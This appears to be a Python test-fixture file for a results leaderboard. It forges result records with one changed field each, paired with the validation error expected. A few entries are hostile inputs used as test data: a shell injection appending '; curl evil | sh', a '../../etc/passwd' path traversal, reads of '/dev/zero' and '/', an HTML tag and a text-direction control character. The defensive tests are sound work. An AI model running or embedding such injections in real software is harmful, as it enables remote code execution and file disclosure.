"""Forged records: each is a committed record with one change, and a word of the reason expected."""

from __future__ import annotations

import json
from contextlib import suppress
from copy import deepcopy
from typing import Any

from experiment.config import RunConfig
from leaderboard.record.read import RECORDS

GONE = object()
Changes = dict[str, Any]


def committed(folder: str, seed: int = 1) -> dict[str, Any]:
    """The committed record of a seed, as plain data."""
    raws = (json.loads(path.read_text("utf-8")) for path in (RECORDS / folder).glob("*.json"))
    return next(raw for raw in raws if raw["seed"] == seed)


def changed(raw: dict[str, Any], changes: Changes) -> dict[str, Any]:
    """A copy with "config.train.steps": value; "scores.*" is both checkpoints, GONE deletes.

    "append" goes to the end of the command. A changed config gets its hash.
    """
    raw = deepcopy(raw)
    for path, value in changes.items():
        if path == "append":
            raw["provenance"]["command"] += f" {value}"
            continue
        checkpoints = raw["scores"] if "scores.*" in path else [""]
        for checkpoint in checkpoints:
            *parents, last = path.replace("*", checkpoint).split(".")
            place = raw
            for name in parents:
                place = place[int(name) if isinstance(place, list) else name]
            if value is GONE:
                del place[int(last) if isinstance(place, list) else last]
            else:
                place[int(last) if isinstance(place, list) else last] = deepcopy(value)
    if "run" not in changes and any(path.startswith("config") for path in changes):
        with suppress(ValueError):  # settings that no run has
            raw["run"] = RunConfig.model_validate(raw["config"]).hash
    return raw


def named(field: str, value: str, option: str) -> Changes:
    """The encoding, task or protocol of a record, its config and its command."""
    keys = ("label", "encoding") if field == "encoding" else (field,)
    return {field: value, "append": f"{option} '{value}'"} | {
        f"config.{key}": value for key in keys
    }


FAILED = {"status": "failed", "reason": "loss is not finite", "scores.last": [], "scores.best": []}
FORGED: dict[str, tuple[Changes, str]] = {
    # The form.
    "other schema": ({"schema": 2}, "schema: Input should be 1"),
    "run is a path": ({"run": "../../etc/passwd"}, "run: String should match"),
    "no seed": ({"seed": GONE}, "seed: Field required"),
    "turned text": ({"encoding": "alibi\u202egnp"}, "encoding: holds control"),
    "long name": ({"encoding": "r" * 201}, "encoding: String should have at most 200"),
    "markup in task": ({"task": "<img src=x>"}, "task: expected a task's name"),
    "protocol with a false mark": (named("protocol", "quick+zzz", "--protocol"), "protocol: Strin"),
    "mode with markup": ({"modes": {"<b>": {"last": []}}}, "modes.<b>.[key]: String should match"),
    "steps as text": ({"config.train.steps": "4000"}, "config.train.steps: Input should be"),
    "one length": ({"config.train.lengths": [10]}, "config.train.lengths"),
    "every 0": ({"config.eval.every": 0}, "config.eval.every: Input should be greater than 0"),
    "heads that do not divide": ({"config.model.heads": 3}, "not a multiple of heads 3"),
    "unknown setting": ({"config.train.magic": 1}, "config.train.magic: Extra inputs"),
    "huge setting": ({"config.train.lr": 1e300}, "not finite or beyond 2**63"),
    "unknown device": ({"config.device": "banana"}, "config.device: String should match"),
    "unknown attention": ({"config.attention": "banana"}, "config.attention: Input should be"),
    "huge number": ({"cost.parameters": 10**30}, "cost.parameters: Input should be less"),
    "kernels in words": ({"env.kernels": "text"}, "env.kernels: Input should be"),
    "attention of a phase": ({"env.attention_ran": {"a": [1]}}, "env.attention_ran.a"),
    "no time zone": ({"provenance.finished": "2026-01-01T00:00:00"}, "needs a time zone"),
    "year 1": ({"provenance.finished": "0001-01-01T00:00:00+14:00"}, "a year after 1"),
    "NaN": ({"scores.last.0.exact": float("nan")}, "scores.last.0.exact: Input should be a finite"),
    "text for a number": ({"scores.last.0.exact": "0.9"}, "scores.last.0.exact: Input should be"),
    "share above 1": ({"scores.last.0.exact": 1.2}, "scores.last.0.exact: Input should be less"),
    "share is not its counts": ({"scores.last.0.exact": 0.9}, "is not correct/count"),
    "more right than asked": ({"scores.last.0.correct": 140}, "correct=140 is more than count=128"),
    "more wrong than there are": ({"scores.last.0.correct": 128, "scores.last.0.exact": 1.0},
        "wrong answers, but"),
    "number without status ok": ({"scores.last.1.status": "cannot represent"}, "has no exact"),
    "length twice": ({"scores.last.1.length": 10, "scores.last.1.seen": True}, "a length twice"),
    "unseen called seen": ({"scores.last.1.seen": True}, "but training lengths were 1 to 10"),
    "done without scores": ({"scores.last": []}, "needs scores.last"),
    "unknown status": ({"status": "great"}, "status: Input should be"),
    "negative seed": ({"seed": -1}, "seed: Input should be greater"),
    "no method": ({"scores.last.0.method": None}, "needs exact"),
    "seen called unseen": ({"scores.last.0.seen": False}, "but training lengths were 1 to 10"),
    # Identity.
    "other hash": ({"run": "0" * 16}, "but the hash of its config is"),
    "other encoding in config": ({"encoding": "rope"}, "but config.label is 'alibi'"),
    "GPU of a CPU": ({"env.device": "NVIDIA H100"}, "but config.device is cpu"),
    # What the command makes.
    "no command": ({"provenance.command": ""}, "not a plain pezoo command"),
    "shell in command": ({"append": "; curl evil | sh"}, "not a plain pezoo command"),
    "command that trains nothing": ({"provenance.command": "pezoo table chen2026"}, "pezoo bench"),
    "unknown option": ({"append": "--blah"}, "No such option '--blah'"),
    "option without a value": ({"append": "--seeds"}, "'--seeds' requires an argument"),
    "seeds without end": ({"append": f"--seeds 0-{10**23}"}, "expected 1 to"),
    "other seeds": ({"append": "--seeds 5-9"}, "seed is 1, but the command"),
    "other encodings": ({"append": "--pe rope,t5"}, "encoding is alibi, but the command"),
    "unbalanced": ({"append": "--pe 'rope('"}, "unbalanced parentheses"),
    "unknown encoding in command": ({"append": "--pe alibi,rope_"}, "unknown encoding 'rope_"),
    "other task": ({"append": "--task reverse"}, "task is copy, but the command runs"),
    "other protocol": ({"append": "--protocol prism2025"}, "protocol is quick, but the c"),
    "earlier file of another": ({"append": "--protocol earlier/turing2024-1.toml"}, "protocol"),
    "file of one machine": ({"append": "--protocol /tmp/quick.toml"}, "other machines do not"),
    "protocol in a folder": ({"append": "--protocol evil/quick"}, "unknown protocol"),
    "settings changed": ({"append": "--set train.steps=9"}, "but the command makes 9"),
    "rounded": ({"append": "--precision=bf16"}, "but the command makes bf16"),
    "unknown setting in command": ({"append": "--set train.setps=1"}, "unknown setting in t"),
    "tuned": ({"append": "--tune lr=1e-3,1e-2"},
        "config.protocol is quick, but the command makes quick+tune-"),
    "other device": ({"append": "--device cuda"}, "config.device is cpu, but the command"),
    "other attention": ({"append": "--attention eager"}, "config.attention is auto, but"),
    "empty parentheses": (named("encoding", "alibi()", "--pe"), "encoding is alibi(), but the"),
    "unknown option of alibi": (named("encoding", "alibi(foo=1)", "--pe"), "'foo'"),
    "impossible value": (named("encoding", "rope(base=-5.0)", "--pe"), "base must be above 0"),
    "unknown task": (named("task", "copi", "--task"), "unknown task 'copi'"),
    "impossible symbols": (named("task", "copy(symbols=99999)", "--task"), "must be within 2..10"),
    "usual value": (named("task", "copy(symbols=10)", "--task"), "task is copy(sym"),
    "changed without a change": (
        {"protocol": "quick+ab12cd", "config.protocol": "quick+ab12cd"},
        "quick+ab12cd, but the command makes"),
    "wider": ({"config.model.width": 68}, "config.model.width is 68, but the command makes 64"),
    "other full encoding": ({"config.encoding": "rope"},
        "config.encoding is rope, but the command"),
    "future encoding version": ({"config.encoding_version": 99},
        "encoding_version is 99: the code is at"),
    "earlier encoding version": ({"config.encoding_version": 0}, "encoding_version is 0: the code"),
    "future task version": ({"config.task_version": 99}, "task_version is 99: the code is at"),
    "earlier task version": ({"config.task_version": 0}, "task_version is 0: the code is at"),
    # Results.
    "failed without reason": ({"status": "failed", "scores.last": [], "scores.best": []},
        "reason is empty"),
    "failed with scores": ({"status": "failed", "reason": "loss is not finite"},
        "there are scores"),
    "failed for ages": (FAILED | {"cost.cpu_seconds": 1e12}, "cost.cpu_seconds is 1e+12, expected"),
    "failed beyond the end": (FAILED | {"best_step": 10**12}, "do not rise to at most 2000"),
    "failed, with a negative loss": (FAILED | {"learning.0.loss": -1e12}, "a loss below 0"),
    "other chance": ({"chance": 0.99}, "chance is 0.99, expected 0.1"),
    "points left out": ({"learning.3": GONE},
        "learning needs 8 points, every 250 steps up to 2000"),
    "steps fall": ({"learning.4.step": 250}, "learning needs 8 points"),
    "steps beyond memory": ({"config.train.steps": 2**62}, "learning needs 1844674"),
    "no last loss": ({"learning.7.loss": None}, "learning needs every loss"),
    "negative loss": ({"learning.2.loss": -5.0}, "no loss below 0"),
    "best beyond the end": ({"best_step": 9999}, "best_step 9999 is not the last step"),
    "best is not last": ({"scores.best.0.correct": 64, "scores.best.0.exact": 0.5,
        "scores.best.0.token": 0.75}, "the last step is the best"),
    "best left out": ({"scores.best": [], "best_step": 1750}, "scores.best has lengths []"),
    "length left out": ({"scores.*.11": GONE}, "but config asks for"),
    "invented mode": ({"modes": {"invented": "scores"}},
        "modes is ['invented'], expected []"),
    "mode without a length": ({"modes": {"snapped": {"last": []}}},
        "modes.snapped.scores.last has"),
    "unasked test set": ({"sets": {"mine": []}}, "sets has ['mine'], but config asks for []"),
    "in one pass": ({"scores.*.0.method": "one pass"}, "method is 'one pass', expected 't"),
    "fewer examples than asked": ({"scores.*.0.count": 100, "scores.*.0.exact": 0.98,
        "scores.*.0.wrong": []}, "count is 100, expected 128"),
    "missing instances": ({"scores.*.11": {"length": 101, "seen": False, "status": "no instance"}},
        "status is 'no instance', expected 'ok'"),
    "cannot represent": (
        {"scores.*.1": {"length": 11, "seen": False, "status": "cannot represent"}},
        "status is 'cannot represent', expected 'ok'"),
    "answers without tokens": ({"scores.*.0.correct": 128, "scores.*.0.exact": 1.0,
        "scores.*.0.wrong": [], "scores.*.0.tokens": None, "scores.*.0.token": 0.5}, "token=0.5"),
    "right answers of no token": ({"scores.*.0.token": 0.0}, "token=0.0 of 1408 tokens"),
    "wrong answers, right tokens": ({"scores.*.0.token": 1.0}, "token=1.0 of 1408 tokens"),
    "token 0": ({"scores.*.0.token": 0.0, "scores.*.0.tokens": None}, "token=0.0 of 1408 tokens"),
    "token 1": ({"scores.*.0.token": 1.0, "scores.*.0.tokens": None}, "token=1.0 of 1408 tokens"),
    "longer answers": ({"scores.*.0.token": 0.75, "scores.*.0.tokens": 1536},
        "tokens is 1536, expected 1408"),
    "no tokens right or wrong": ({"scores.*.0.token": GONE}, "token=None of 1408 tokens"),
    "saved bits of answers": ({"scores.*.0.gain": 1e9}, "bits is None and gain 1000000000.0, and"),
    "places of answers": ({"scores.*.0.by_place": [1.0]}, "bits is None and gain None, and the tr"),
    "saved bits of no text": ({"scores.last.1": {"length": 11, "seen": False, "gain": 1e9,
        "status": "cannot represent"}}, "status 'cannot represent' has no"),
    "seen tokens": ({"scores.*.0.tokens": 99}, "tokens is 99, expected 1408"),
    "half a token": ({"scores.*.0.token": 0.9}, "token=0.9 of 1408 tokens"),
    "best evaluations unasked": ({"scores.top1": "last"},
        "scores.top1 has scores, but eval.top is 0"),
    # Costs.
    "encoding larger than model": ({"cost.parameters": 5, "cost.encoding_parameters": 6},
        "cost.encoding_parameters is 6"),
    "other size": ({"cost.encoding_parameters": 1}, "cost.encoding_parameters is 1, expected 0"),
    "no parameters": ({"cost.parameters": 0}, "cost.parameters is 0"),
    "took no time": ({"cost.train_seconds": 0.0, "cost.cpu_seconds": 0.0},
        "cost.train_seconds is 0"),
    "tested in no time": ({"cost.eval_seconds": 0.0}, "cost.eval_seconds is 0, expected"),
    "no processor": ({"cost.cpu_seconds": 0}, "cost.cpu_seconds is 0, expected"),
    "busier than its cores": ({"cost.cpu_seconds": 1e6}, "cost.cpu_seconds is 1e+06, expected"),
    "tests busier": ({"cost.eval_cpu_seconds": 1e6}, "cost.eval_cpu_seconds is 1e+06, expected"),
    "faster than half a second": ({"cost.train_seconds": 0.9, "cost.cpu_seconds": 0.9,
        "cost.data_share": 0.0, "cost.steps_per_second": 1e6}, "cost.steps_per_second is 1e+06"),
    "faster than its time": ({"cost.steps_per_second": 5000.0}, "cost.steps_per_second is 5000"),
    "began before the project": ({"cost.train_seconds": 9e8, "cost.steps_per_second": 0.0},
        "cost.train_seconds is 9e+08, expected"),
    "no memory": ({"cost.peak_memory_mb": 0}, "cost.peak_memory_mb is 0, expected 50 to 1e+07"),
    "memory of no machine": ({"cost.peak_memory_mb": 1e12}, "cost.peak_memory_mb is 1e+12"),
    # Recomputed: data, weights, sizes, names, how a run is scored.
    "copied to another seed": ({"seed": 99, "config.seed": 99, "append": "--seeds 99"},
        "data_hash is"),
    "invented hashes": ({"data_hash": "0" * 16}, "data_hash is 0000000000000000, expected"),
    "invented weights": ({"backbone_hash": "0" * 16}, "backbone_hash is 0000000000000000"),
    "one parameter": ({"cost.parameters": 1}, "cost.parameters is 1, expected 104192"),
    "decoded": ({"scores.*.0.method": "decoded"}, "method is 'decoded', expected 'teacher-f"),
    "six other digits": ({"protocol": "quick+ffffff", "config.protocol": "quick+ffffff",
        "append": "--set train.lr=0.002"}, "config.protocol is quick+ffffff, but"),
    "for tuning outside of a sweep": ({"protocol": "quick+tuning", "config.protocol":
        "quick+tuning"}, "config.protocol is quick+tuning, but the command makes quick"),
    "a protocol's file for tuning": ({"protocol": "quick+tuning", "config.protocol":
        "quick+tuning", "config.model.width": 128, "config.eval.examples": "tuning", "seed": 100,
        "config.seed": 100, "append": "--protocol protocols/quick.toml --set model.width=128 "
        "--tune lr=2e-3 --tune-seeds 100"},
        "config.protocol is quick+tuning, but the command makes quick+"),
    "longer for tuning": ({"protocol": "quick+tuning", "config.protocol": "quick+tuning",
        "config.model.width": 128, "append":
        "--tune lr=1e-3,2e-3", "config.eval.examples": "tuning", "seed": 100, "config.seed": 100},
        "config.model.width is 128"),
    "unknown option of another": ({"append": "--pe 'alibi,rope(base=-1.0)'"}, "base must be above"),
    "unknown option of another task": ({"append": "--task 'copy,reverse(foo=1)'"}, "'foo'"),
    "unknown format": ({"append": "--format xml"}, "'xml' is not one of"),
    "jobs in words": ({"append": "--jobs many"}, "'many' is not a valid integer"),
    "option of one site": ({"append": "--runs /tmp"}, "options that records do not keep"),
    "a device as a machine": (named("task", "turing_machine(file=/dev/zero)", "--task"),
        "file=/dev/zero) reads outside of this folder"),
    "the whole disk as a text": (named("task", "text(path=/)", "--task"), "reads outside of this"),
    "a folder above": (named("task", "text(path=a/../../b)", "--task"), "reads outside of this"),
    "a folder in a setting": ({"append": "--set 'tasks.text(path = \"/\").samples=1'"},
        "reads outside of this folder"),
    "a grid without end": ({"append": " ".join(f"--tune {name}=" + ",".join(map(str, range(1, 41)))
        for name in ("lr", "steps", "batch", "warmup", "clip"))},
        "asks for 102,400,000 runs of each encoding"),
    "ten million training lengths": ({"append": "--set 'tasks.copy.train_lengths=[1,10000000]'"},
        "less than or equal to 1000000"),
    "a table of 25 GB": (named("encoding", "learned(max_len=100000000)", "--pe"),
        "expected 6400000000"),
    # Costs and the curve.
    "costs left out": ({"cost.cpu_seconds": GONE}, "cost.cpu_seconds is missing"),
    "a million steps a second": ({"cost.train_seconds": 0.002, "cost.steps_per_second": 1e6},
        "cost.train_seconds is 0.002, expected 0."),
    "idle processor": ({"cost.cpu_seconds": 0.01}, "cost.cpu_seconds is 0.01, expected 0."),
    "few tokens": ({"cost.tokens": 10_000}, "cost.tokens is 10000, expected"),
    "many tokens": ({"cost.tokens": 10**9}, "cost.tokens is 1000000000, expected"),
    "nothing but data": ({"cost.data_share": 1.0}, "cost.data_share is 1, expected 0 to 0.9"),
    "saved for hours": ({"cost.save_seconds": 1e5}, "cost.save_seconds is 100000, expected"),
    "more sessions than steps": ({"cost.sessions": 9999}, "cost.sessions is 9999, expected 1"),
    "no data_hash": ({"data_hash": GONE}, "data_hash is missing"),
    "no tokens": ({"cost.tokens": GONE}, "cost.tokens is missing"),
    "best step that is not the curve's": ({"best_step": 250}, "best_step 250 is not the last"),
    "curve that ends at 0": ({"learning.7.exact": 0.0, "scores.*.0.correct": 128,
        "scores.*.0.exact": 1.0, "scores.*.0.token": 1.0, "scores.*.0.wrong": []},
        "learning has exact 0.0 at step 2000, unlike scores.last"),
    "a loss of no float": ({"learning.7.loss": 1e11, "learning.7.exact": 1.0},
        "learning has the loss 1e+11 at 2000, expected at most 100"),
    # Provenance.
    "torch that lacks all": ({"env.torch": "0.0.1"}, "env.torch is 0.0.1, expected 2.10 or later"),
    "python 2": ({"env.python": "2.7.1"}, "env.python is 2.7.1, expected 3.11 or later"),
    "more cores than any": ({"env.cores": 10**12}, "env.cores is 1000000000000, expected at most"),
    "no commit": ({"env.commit": "HEAD"}, "expected the hash of a commit"),
    "from the future": ({"provenance.finished": "2999-01-01T00:00:00+00:00"}, "finished is 2999"),
    "before this project": ({"provenance.finished": "2026-11-21T04:54:36+00:00"}, "expected 2026"),
    # Wrong answers and the curve, against the test and the validation set.
    "invented prompt": ({"scores.last.3.wrong.1.prompt": "12="}, "is not in the test set"),
    "invented answer": ({"scores.last.3.wrong.1.expected": "12⟨end⟩"}, "is not in the test set"),
    "wrong answers left out": ({"scores.last.3.wrong": []}, "0 wrong answers, expected 3"),
    "wrong answers of the best": ({"scores.best.3.wrong": [dict.fromkeys(("prompt", "expected",
        "given"), "1")]}, "1 wrong answers, expected 0"),
    "a third of an answer": ({"learning.0.exact": 0.3334}, "not a multiple of 1/320"),
    "no loss": ({f"learning.{at}.loss": 0.0 for at in range(8)}, "has the loss 0.0 everywhere"),
    "one loss": ({f"learning.{at}.loss": 0.1 for at in range(8)}, "has the loss 0.1 everywhere"),
    "tests that none asked for": ({"learning.0.test_exact": 1.0}, "no eval.curve_lengths"),
    "below 0": ({"scores.last.6.exact": -0.0}, "scores.last.6.exact: -0.0 is not a share"),
    "share near its counts": ({"scores.last.0.exact": 0.7657}, "is not correct/count=98/128"),
}  # fmt: skip


def forged(name: str) -> dict[str, Any]:
    """The record of one row of FORGED."""
    base, (changes, _) = committed("quick/copy/alibi"), FORGED[name]
    changes = dict(changes)
    if changes.get("modes") == {"invented": "scores"}:
        changes["modes"] = {"invented": base["scores"]}
    if changes.get("scores.top1") == "last":
        changes["scores.top1"] = base["scores"]["last"]
    return changed(base, changes)
